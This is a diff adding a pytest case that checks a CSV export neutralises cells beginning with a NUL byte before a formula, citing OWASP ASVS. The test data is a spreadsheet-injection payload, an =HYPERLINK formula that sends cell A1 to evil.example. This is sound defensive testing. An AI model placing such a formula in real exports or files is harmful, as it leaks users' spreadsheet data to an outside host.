@@ -113,6 +113,32 @@ def test_a_vendors_service_tier_is_made_text_in_the_csv_too(tmp_path, monkeypatc
     assert row["service_tier"] == "'" + tier
 
 
+def test_a_cell_starting_with_a_nul_is_made_text_too(tmp_path, monkeypatch, capsys):
+    # OWASP ASVS 5.0 (1.2.10) names the NUL beside = + - @ and the tab: a vendor's error text or service tier
+    # that began with one before a formula reached the export as it came
+    db = tmp_path / "nul.db"
+    monkeypatch.setenv("MAGSAG_DB", str(db))
+    now = time.time()
+    evil = '\x00=HYPERLINK("http://evil.example/?q="&A1,"details")'
+
+    async def fill() -> None:
+        async with Ledger(db) as ledger:
+            run = RunRecord("run-1", "agent", "skill.analysis", now)
+            attempt = AttemptRecord(
+                "run-1", now, "local", "llama3", "skill.analysis", "agent", "error", 0, 1,
+                error_class="server_error", error_message=evil, service_tier=evil,
+            )  # fmt: skip
+            await ledger.record_call(run, [attempt])
+
+    anyio.run(fill)
+    assert main(["data", "query", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert (row["error_message"], row["service_tier"]) == ("'" + evil, "'" + evil)
+    # the JSON export keeps what was recorded
+    [run] = main_json(["data", "query", "--format", "json"], capsys)
+    assert run["attempts"][0]["error_message"] == evil
+
+
 class _LocaleStdout(io.TextIOWrapper):
     """stdout redirected to a file where the locale's encoding is not UTF-8: Windows' cp1252 (or an ASCII
     CI locale), with Windows' translation of every "\\n" written into "\\r\\n"."""
